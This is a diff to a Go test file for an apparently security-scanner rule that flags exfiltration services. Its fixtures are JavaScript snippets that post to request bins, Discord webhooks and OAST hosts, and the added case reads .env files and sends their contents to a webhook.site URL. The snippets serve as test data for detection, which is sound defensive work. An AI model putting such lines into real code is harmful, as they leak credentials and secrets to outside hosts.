@@ -23,6 +23,8 @@ func TestNetworkAccess(t *testing.T) {
 func TestExfilService(t *testing.T) {
 	rt.Check(t, ExfilService{}, []rt.Case{
 		{"pipedream", map[string]string{"index.js": `https.request({ hostname: "abc.m.pipedream.net", method: "POST" })`}, finding.SeverityHigh},
+		// a request bin in a file that walks the directories for .env files
+		{"request_bin_reads_files", map[string]string{"index.js": "const fs = require(\"fs\"); const ENDPOINT = \"https://webhook.site/3f9c2a71\"; const files = fs.readdirSync(dir).filter(n => /^\\.env/.test(n)).map(n => fs.readFileSync(n, \"utf8\")); post(ENDPOINT, files)"}, finding.SeverityCritical},
 		{"oast_concat", map[string]string{"index.js": `const h = "x1" + ".oast" + ".fun"; dns.lookup(h)`}, finding.SeverityHigh},
 		{"discord_webhook", map[string]string{"index.js": `fetch("https://discord.com/api/webhooks/1/abc", {method:"POST"})`}, finding.SeverityHigh},
 		// a bot token in the path of a relayed request with run-time parts
